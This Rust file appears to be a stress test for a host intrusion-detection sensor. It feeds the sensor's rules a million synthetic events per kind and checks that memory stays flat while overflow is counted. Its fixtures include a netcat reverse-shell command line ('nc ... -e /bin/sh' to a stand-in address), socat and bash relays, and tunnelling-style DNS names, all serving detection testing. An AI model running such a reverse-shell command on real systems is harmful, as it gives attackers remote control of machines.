//! A million different keys of each kind that detection remembers something by: memory stays flat, and what
//! there was no room for is counted.
//!
//! Each kind is shown to all of detection, with all rules and detectors, new each time. That the limits are
//! kept to the last key is what tests of the sensor show with fewer keys; here the counters must say that
//! most keys were forgotten, and the process must not grow from a fifth of the keys to the last.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;

use anyhow::Result;
use bytes::Bytes;
use sensor::clock::BootTime;
use sensor::detect::pack::RULES;
use sensor::event::{
    Body, BpfAccess, BpfProgram, Closed, Connection, Dns, Fork, NetworkNamespace, ProcessId, Tgid,
};
use sensor::process::{BootId, Image, Process};
use sensor_common::network::Role;
use serde_json::{Value, json};

use super::told::{self, HOST, HOST_NAMESPACES, Told, process_id};
use super::{OWN, WALL_OFFSET, cpu_time, detection};
use crate::{process, say};

/// A kind of keys.
struct Kind {
    /// What there are many of.
    name: &'static str,
    /// The limits that it must reach.
    limits: &'static [&'static str],
    /// The event of each number.
    told: fn(&Maker, u32) -> Told,
}

const KINDS: &[Kind] = &[
    Kind {
        name: "processes that fail to connect",
        limits: &[
            "port_scan_states",
            "network_sweep_states",
            "exfiltration_programs",
        ],
        told: |maker, key| {
            let id = maker.id(key);
            let closed = maker.closed(
                key,
                SocketAddr::from(([203, 0, 113, 9], 80)),
                Role::Client,
                0,
            );
            let mut closed = closed;
            if key.is_multiple_of(2) {
                closed.established = None;
            } else {
                closed.bytes_sent = 700;
            }
            Told::alone(maker.event(id, key, Body::Closed(closed)))
        },
    },
    Kind {
        name: "addresses that scan",
        limits: &["inbound_scan_states"],
        told: |maker, key| {
            let closed = maker.closed(key, peer(key, 4_000), Role::Server, 0);
            Told::alone(maker.event(maker.id(1), key, Body::Closed(closed)))
        },
    },
    Kind {
        name: "destinations of a program",
        limits: &["beaconing_states", "exfiltration_destinations"],
        told: |maker, key| {
            let closed = maker.closed(key, peer(key, 443), Role::Client, 500);
            let crawler = maker.process(maker.id(1), "/usr/bin/crawler");
            Told {
                process: Some(crawler),
                ..Told::alone(maker.event(maker.id(1), key, Body::Closed(closed)))
            }
        },
    },
    Kind {
        name: "relays and shells that connect",
        limits: &["reverse_shell_connections", "reverse_shell_jobs"],
        told: |maker, key| {
            let id = maker.id(key);
            let program = if key.is_multiple_of(2) {
                "/usr/bin/socat"
            } else {
                "/bin/bash"
            };
            let mut relay = maker.process(id, program);
            relay.parent = Some(maker.id(key / 2));
            Told {
                process: Some(relay),
                ..Told::alone(maker.event(id, key, Body::Connect(connection(443, peer(key, 443)))))
            }
        },
    },
    Kind {
        name: "shells that are found",
        limits: &["reverse_shell_found"],
        told: |maker, key| {
            let id = maker.id(key);
            let parent = maker.id(2);
            let relay = maker.process(id, "/usr/bin/nc.traditional");
            let arguments = format!("nc\0203.0.113.9\0{}\0-e\0/bin/sh\0", key % 60_000 + 1);
            let executable = Bytes::from_static(b"/usr/bin/nc.traditional");
            let exec = told::exec(&relay, parent, &executable, arguments.into_bytes());
            Told {
                process: Some(relay),
                ..Told::alone(maker.event(id, key, Body::Exec(Box::new(exec))))
            }
        },
    },
    Kind {
        name: "servers",
        limits: &["server_shell_servers", "ssh_guessing_servers"],
        told: |maker, key| {
            let id = maker.id(key);
            let program = if key.is_multiple_of(2) {
                "/usr/sbin/sshd"
            } else {
                "/usr/sbin/nginx"
            };
            Told {
                process: Some(maker.process(id, program)),
                ..Told::alone(maker.event(id, key, Body::Accept(connection(22, peer(key, 4_000)))))
            }
        },
    },
    Kind {
        name: "logins by SSH",
        limits: &["ssh_guessing_processes", "ssh_guessing_sources"],
        told: |maker, key| {
            let (server, login) = (maker.id(600), key / 3);
            let program = Some(maker.process(server, "/usr/sbin/sshd"));
            let body = match key % 3 {
                0 => Body::Accept(connection(22, peer(login, 4_000))),
                1 => Body::Fork(fork(server, maker.id(key))),
                _ => {
                    let mut closed = maker.closed(key, peer(login, 4_000), Role::Server, 900);
                    closed.bytes_received = 2_000;
                    Body::Closed(closed)
                }
            };
            Told {
                process: program,
                ..Told::alone(maker.event(server, key, body))
            }
        },
    },
    Kind {
        name: "runs of su",
        limits: &["elevation_guessing_runs", "elevation_guessing_processes"],
        told: |maker, key| {
            let id = maker.id(key - key % 2);
            let mut su = maker.process(id, "/usr/bin/su");
            su.credentials = Some(told::user(1_000));
            let body = if key.is_multiple_of(2) {
                let executable = Bytes::from_static(b"/usr/bin/su");
                Body::Exec(Box::new(told::exec(
                    &su,
                    maker.id(2),
                    &executable,
                    b"su\0".to_vec(),
                )))
            } else {
                Body::Fork(fork(id, maker.id(key)))
            };
            Told {
                process: Some(su),
                ..Told::alone(maker.event(id, key, body))
            }
        },
    },
    Kind {
        name: "domains that are asked for",
        limits: &["dns_tunnelling_domains"],
        told: |maker, key| {
            let name = format!(
                "0a3f9c1e77b2d4a8556{:05x}.d{key:06}.example",
                key % 0xf_ffff
            );
            Told::alone(maker.event(maker.id(1), key, Body::DnsQuestion(dns(&name, 16, &[]))))
        },
    },
    Kind {
        name: "addresses that are answered",
        limits: &["resolved_names_full"],
        told: |maker, key| {
            let [_, a, b, c] = key.to_be_bytes();
            let dns = dns(&format!("host{key}.example"), 1, &[[8, a, b, c]]);
            Told::alone(maker.event(maker.id(1), key, Body::DnsAnswer(dns)))
        },
    },
    Kind {
        name: "the sensor's BPF programs",
        limits: &["tampering_programs"],
        told: |maker, key| {
            let own = ProcessId {
                tgid: OWN,
                start: BootTime(1),
            };
            let program = BpfProgram {
                id: key,
                program_type: 26,
                attach_type: 0,
                instructions: 100,
                tag: [0; 8],
                overrides_return: false,
                gpl_compatible: true,
                name: Bytes::from_static(b"program"),
                function: Bytes::new(),
                access: BpfAccess::Load,
            };
            Told::alone(maker.event(own, key, Body::BpfProgram(Box::new(program))))
        },
    },
    Kind {
        name: "container runtimes",
        limits: &["fileless_runtimes"],
        told: |maker, key| maker.exec(key, "/usr/bin/runc", "runc\0init\0".to_owned()),
    },
    Kind {
        name: "groups of correlations, six kinds",
        limits: &["correlation_groups_full"],
        told: |maker, key| maker.exec(key, "/usr/bin/grouped", format!("grouped\0{key}\0")),
    },
    Kind {
        name: "events of one group",
        // Of each a sample or a count is kept, however many there are.
        limits: &[],
        told: |maker, key| maker.exec(key, "/usr/bin/valued", format!("valued\0{key}\0")),
    },
    Kind {
        name: "alerts",
        limits: &["repetition_full"],
        told: |maker, key| {
            maker.exec(
                key,
                &format!("/usr/bin/alarming{key}"),
                format!("a\0{key}\0"),
            )
        },
    },
];

/// Rules for what the sensor's own do not reach.
const EXTRA: &str = include_str!("keys.yml");

/// Shows each kind so many keys.
pub fn run(keys: u32) -> Result<Vec<Value>> {
    let mut texts: Vec<(String, String)> = RULES
        .iter()
        .map(|(name, text)| ((*name).to_owned(), (*text).to_owned()))
        .collect();
    texts.push(("keys.yml".to_owned(), EXTRA.to_owned()));
    let own = rustix::process::getpid();
    let mut rows = Vec::new();
    for kind in KINDS {
        say(format_args!("{keys} {}", kind.name));
        let (mut detection, _) = detection(&texts, true)?;
        let maker = Maker::default();
        let (mut warm, mut used) = (0, std::time::Duration::ZERO);
        for key in 0..keys {
            let told = (kind.told)(&maker, key);
            if key == keys / 5 {
                warm = process::status_bytes(own, "VmRSS")?;
            }
            // Not each by itself: to ask for the time takes as long as an event.
            let begin = key.is_multiple_of(16).then(cpu_time);
            detection.inspect(&told.observed(), WALL_OFFSET);
            if let Some(begin) = begin {
                used += cpu_time().saturating_sub(begin);
            }
            if key.is_multiple_of(1_000) {
                detection.due(told.event.origin.time);
            }
        }
        let resident = process::status_bytes(own, "VmRSS")?;
        let mut forgotten = Vec::new();
        detection.limits(&mut |name, count| {
            if kind.limits.contains(&name) {
                forgotten.push(json!({"limit": name, "count": count}));
            }
        });
        rows.push(json!({
            "kind": kind.name,
            "limits": kind.limits,
            "keys": keys,
            "resident": resident,
            "growth": resident.saturating_sub(warm),
            "forgotten": forgotten,
            "cpu": used.as_secs_f64() * 1e9 * 16.0 / f64::from(keys.max(1)),
        }));
    }
    Ok(rows)
}

/// Makes events.
struct Maker {
    boot: BootId,
}

impl Default for Maker {
    fn default() -> Self {
        let boot = BootId::parse("01234567-89ab-cdef-0123-456789abcdef").unwrap_or_default();
        Self { boot }
    }
}

impl Maker {
    #[allow(clippy::unused_self, reason = "beside the others")]
    const fn id(&self, number: u32) -> ProcessId {
        process_id(number + 1_000, number as u64 * 10_000_000 + 1)
    }

    /// An event, a millisecond after the one before.
    fn event(&self, id: ProcessId, key: u32, body: Body) -> sensor::event::Event {
        told::event(id, 0, HOST, moment(key), body)
    }

    fn process(&self, id: ProcessId, executable: &str) -> Process {
        let name = executable.rsplit('/').next().unwrap_or_default();
        let image = Image {
            name: name.to_owned(),
            executable: executable.to_owned(),
            ..Image::default()
        };
        Process {
            image: Some(Arc::new(image)),
            credentials: Some(told::user(0)),
            namespaces: Some(HOST_NAMESPACES),
            process_group: Some(Tgid(id.tgid.0)),
            session_id: Some(Tgid(id.tgid.0)),
            ..Process::unknown(self.boot, id)
        }
    }

    fn exec(&self, key: u32, executable: &str, arguments: String) -> Told {
        let id = self.id(key);
        let process = self.process(id, executable);
        let path = Bytes::copy_from_slice(executable.as_bytes());
        let exec = told::exec(&process, self.id(2), &path, arguments.into_bytes());
        Told {
            process: Some(process),
            ..Told::alone(self.event(id, key, Body::Exec(Box::new(exec))))
        }
    }

    fn closed(&self, key: u32, remote: SocketAddr, role: Role, sent: u64) -> Closed {
        let opened = BootTime(moment(key) - 1_000_000);
        Closed {
            endpoints: told::endpoints(22, remote, 6),
            namespace: NetworkNamespace(HOST_NAMESPACES.net),
            socket_type: 1,
            opened: Some(opened),
            established: Some(opened),
            bytes_sent: sent,
            bytes_received: 0,
            error: 0,
            role,
            state: 1,
        }
    }
}

/// A thousandth of a millisecond after the moment of the key before.
const fn moment(key: u32) -> u64 {
    1_000_000_000_000 + key as u64 * 1_000
}

/// Another address outside for each key.
fn peer(key: u32, port: u16) -> SocketAddr {
    SocketAddr::new(IpAddr::from((0x0800_0000 + key).to_be_bytes()), port)
}

fn connection(local_port: u16, remote: SocketAddr) -> Connection {
    told::connection(told::endpoints(local_port, remote, 6))
}

fn fork(parent: ProcessId, child: ProcessId) -> Fork {
    Fork {
        child,
        parent,
        namespace_pid: child.tgid,
    }
}

fn dns(name: &str, kind: u16, answers: &[[u8; 4]]) -> Dns {
    Dns {
        endpoints: told::endpoints(40_000, SocketAddr::from(([192, 0, 2, 53], 53)), 17),
        namespace: NetworkNamespace(HOST_NAMESPACES.net),
        message: told::text(told::dns_message(name, kind, answers)),
    }
}
